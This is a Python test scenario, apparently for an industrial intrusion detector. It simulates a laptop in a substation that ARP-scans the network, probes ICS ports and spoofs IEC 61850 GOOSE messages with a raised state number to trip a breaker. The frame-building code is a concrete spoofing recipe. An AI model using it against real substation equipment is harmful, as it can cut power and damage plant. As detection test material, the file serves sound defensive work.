"""GOOSE spoofing: a laptop in the substation publishes another device's message and trips a breaker.

Frames by IEC 61850-8-1; the attack (a higher state number than the publisher's) is known from literature.
"""

from __future__ import annotations

from struct import pack

from tests.craft.plant import HOUR, MINUTE, SECOND, SWITCH, Actor, Plant, Scene, lease, probes

GROUP = "01:0c:cd:01:00:01"
BAY = Actor("bay-controller", "10.20.1.31", "00:21:c1:31:00:31")
RELAY = Actor("relay", "10.20.1.32", "00:21:c1:32:00:32")
LAPTOP = Actor("laptop", "10.20.1.99", "b8:27:eb:11:22:99")
ZONES = """\
zones:
  bay: {networks: [10.20.1.0/24], level: 1, criticality: high, inventory: optional}
"""


def _tlv(tag: int, body: bytes) -> bytes:
    return bytes((tag, len(body))) + body if len(body) < 128 else bytes((tag, 0x81, len(body))) + body


def goose(wire: Plant, us: int, mac: str, state: int, number: int, changed: int, tripped: bool) -> None:
    """A message of the bay controller's control block."""
    second, micro = divmod(changed, SECOND)
    t = pack(">I", 1_768_204_800 + second) + (micro * (1 << 24) // SECOND).to_bytes(3) + b"\x0a"
    reference = b"BAY1CTRL/LLN0$GO$gcb01"
    data = _tlv(0x83, bytes((tripped,))) + _tlv(0x84, b"\x06" + (b"\x80" if tripped else b"\x40"))
    body = b"".join((
        _tlv(0x80, reference), _tlv(0x81, pack(">H", 4_000)), _tlv(0x82, b"BAY1CTRL/LLN0$Positions"),
        _tlv(0x83, b"BAY1_Positions"), _tlv(0x84, t), _tlv(0x85, pack(">I", state)),
        _tlv(0x86, pack(">I", number)), _tlv(0x87, b"\0"), _tlv(0x88, b"\x01"),
        _tlv(0x89, b"\0"), _tlv(0x8A, b"\x02"), _tlv(0xAB, data),
    ))  # fmt: skip
    pdu = _tlv(0x61, body)
    wire.ether(us, mac, GROUP, 0x88B8, pack(">HHHH", 1, len(pdu) + 8, 0, 0) + pdu)


def play(wire: Plant) -> None:
    """A quiet hour with a repetition every two seconds; at half past the laptop is plugged in."""
    wire.arp(SECOND, BAY, RELAY)
    for n in range(HOUR // (2 * SECOND)):
        goose(wire, n * 2 * SECOND, BAY.mac, 5, 100 + n, 0, tripped=False)
    lease(wire, 30 * MINUTE, LAPTOP, SWITCH)
    for n in range(1, 60):
        from scapy.layers.l2 import ARP, Ether

        ip = f"10.20.1.{n}"
        owner = next((a for a in (BAY, RELAY) if a.ip == ip), None)
        if owner:
            wire.arp(31 * MINUTE + n * 9_000, LAPTOP, owner)
        else:
            ask = ARP(op=1, hwsrc=LAPTOP.mac, psrc=LAPTOP.ip, pdst=ip)
            wire.at(31 * MINUTE + n * 9_000, Ether(src=LAPTOP.mac, dst="ff:ff:ff:ff:ff:ff") / ask)
    for n, device in enumerate((BAY, RELAY)):
        probes(
            wire,
            (33 + n) * MINUTE,
            LAPTOP,
            device,
            (21, 22, 23, 80, 102, 443, 502, 2404, 8080, 20000),
            (102,),
        )
    at = 40 * MINUTE + SECOND // 2
    for n in range(30):
        goose(wire, at + n * 100_000, LAPTOP.mac, 6, n, at, tripped=True)


SCENE = Scene(
    play,
    attackers=(LAPTOP,),
    victims=(BAY, RELAY),
    tactics=("discovery", "impair-process-control"),
    zones=ZONES,
)
